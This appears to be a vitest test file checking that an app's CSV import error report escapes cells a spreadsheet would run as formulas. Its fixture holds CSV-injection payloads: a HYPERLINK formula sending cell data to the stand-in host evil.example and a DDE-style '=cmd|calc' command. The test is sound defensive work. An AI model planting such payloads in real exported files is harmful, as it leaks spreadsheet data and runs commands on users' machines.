/** SPEC §11.5: the downloadable import report guards every cell a spreadsheet would run as a formula. */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { errorReportCsv, type BulkOutcome } from '../../renderer/stores/bulk-run';

describe('import error report', () => {
  it('opens in a spreadsheet without running a planted formula, and still reads back as sent', () => {
    const planted: BulkOutcome[] = [
      {
        line: 2,
        raw: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        status: 'invalid',
        message: 'not a number',
      },
      { line: 3, raw: '+1 212 555 0000', status: 'already_blocked', message: '@SUM(1+1)' },
      { line: 4, raw: '-2+3', status: 'invalid', message: '\t=cmd|calc' },
      { line: 5, raw: '2125550100', status: 'created', message: '+12125550100' },
    ];
    const csv = errorReportCsv(planted);
    const rows = Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
    expect(rows[0]).toEqual(['line', 'number', 'status', 'message']);
    const cells = rows.slice(1).flatMap((row) => [row[1] ?? '', row[3] ?? '']);
    expect(cells).toHaveLength(6);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      'not a number',
      "'+1 212 555 0000",
      "'@SUM(1+1)",
      "'-2+3",
      "'\t=cmd|calc",
    ]);
  });
});
